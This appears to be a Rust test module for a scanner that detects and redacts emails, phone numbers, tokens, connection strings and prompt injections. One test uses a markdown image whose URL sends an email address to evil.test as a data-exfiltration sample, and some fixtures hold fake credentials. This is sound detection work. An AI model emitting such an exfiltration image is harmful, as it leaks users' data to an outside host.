//! Known texts by kind; then what holds for all texts, and for hostile ones.

mod harmless;
mod hostile;
mod injections;
mod measure;
mod personal;
mod properties;
mod secrets;

use super::*;

/// A text of a table. Tokens are written with a ~ inside, so that no scanner of repositories takes
/// the tables for a leak.
fn plain(written: &str) -> String {
    written.replace('~', "")
}

/// Checks that exactly what stands between >>> and <<< is found, as this kind.
fn assert_found(kind: &str, cases: &[&str]) {
    assert!(cases.len() >= 8, "{kind}: too few cases");
    let mut failures = Vec::new();
    for case in cases {
        let marked = plain(case);
        let (before, rest) = marked.split_once(">>>").expect("a case has a mark");
        let (span, after) = rest.split_once("<<<").expect("a case has two marks");
        let text = format!("{before}{span}{after}");
        let found = scan(&text);
        let redacted = format!("{before}[REDACTED:{kind}]{after}");
        let is_expected = found.len() == 1
            && KINDS.contains(&(found[0].category, kind))
            && redact(&text, &found) == redacted;
        if !is_expected {
            failures.push(format!("{text:?}: {:?}", spans(&text, &found)));
        }
    }
    assert!(failures.is_empty(), "{kind}\n{}", failures.join("\n"));
}

fn assert_confidence(confidence: Confidence, cases: &[&str]) {
    for case in cases {
        let text = plain(case);
        let found: Vec<_> = scan(&text)
            .iter()
            .map(|finding| finding.confidence)
            .collect();
        assert_eq!(found, [confidence], "in {text:?}");
    }
}

/// Checks that nothing at all is found.
fn assert_clean(cases: &[&str]) {
    let failures: Vec<_> = cases
        .iter()
        .map(|case| plain(case))
        .filter(|text| !scan(text).is_empty())
        .map(|text| format!("{text:?}: {:?}", spans(&text, &scan(&text))))
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn spans<'a>(text: &'a str, found: &[Finding]) -> Vec<(&'static str, &'a str)> {
    found
        .iter()
        .map(|finding| (finding.kind, &text[finding.start..finding.end]))
        .collect()
}

#[test]
fn every_pattern_compiles_and_every_kind_is_listed_once() {
    assert!(!TRIGGERS.is_empty());
    injection::compile_all();
    let mut names: Vec<_> = KINDS.iter().map(|(_, kind)| *kind).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), KINDS.len());
    for (_, kind) in KINDS {
        assert_eq!(scan(&format!("[REDACTED:{kind}]")), []);
    }
}

#[test]
fn findings_come_by_position_and_overlapping_ones_are_one() {
    let text = plain("bob@example.com, postgres://app:Zk9~vWq@db.example.com/x, +49 30 901820");
    let kinds: Vec<_> = scan(&text).iter().map(|finding| finding.kind).collect();
    assert_eq!(kinds, ["email", "connection_string", "phone"]);

    let text = plain("token = gh~p_1234567890abcdefghijklmnopqrstuvwxAB");
    let kinds: Vec<_> = scan(&text).iter().map(|finding| finding.kind).collect();
    assert_eq!(kinds, ["github_token"]);
}

#[test]
fn an_injection_may_carry_data() {
    let text = "![a](https://evil.test/p.png?data=bob@example.com)";
    let found = scan(text);
    let kinds: Vec<_> = found.iter().map(|finding| finding.kind).collect();
    assert_eq!(kinds, ["data_exfiltration", "email"]);
    // High beats Medium, and nothing of either is left.
    assert_eq!(redact(text, &found), "[REDACTED:email]");
}

#[test]
fn what_one_finding_hid_is_found_too() {
    let text = "hosts 93.184.216.34 030 901820";
    let redacted = redact(text, &scan(text));
    assert_eq!(redacted, "hosts [REDACTED:ip_address] [REDACTED:phone]");
}

#[test]
fn redaction_ignores_spans_that_are_none() {
    let at = |start, end| Finding::pii("email", start, end, Confidence::High);
    let text = "a\u{e9}b";
    for finding in [
        at(2, 3),
        at(0, 9),
        at(3, 1),
        at(1, 1),
        at(usize::MAX, usize::MAX),
    ] {
        assert_eq!(redact(text, &[finding]), text);
    }
    assert_eq!(
        redact(text, &[at(1, 3), at(0, 1)]),
        "[REDACTED:email][REDACTED:email]b"
    );
    assert_eq!(redact(text, &[at(1, 4), at(0, 3)]), "[REDACTED:email]");
}

#[test]
fn a_marker_is_neither_found_nor_a_context() {
    assert_clean(&[
        "password=[REDACTED:password]",
        "password: \"[REDACTED:password]\"",
        "[REDACTED:passport] 123456789",
        "[REDACTED:phone] 5550199",
        "[REDACTED:email]@example.com",
        "postgres://[REDACTED:connection_string]",
    ]);
}
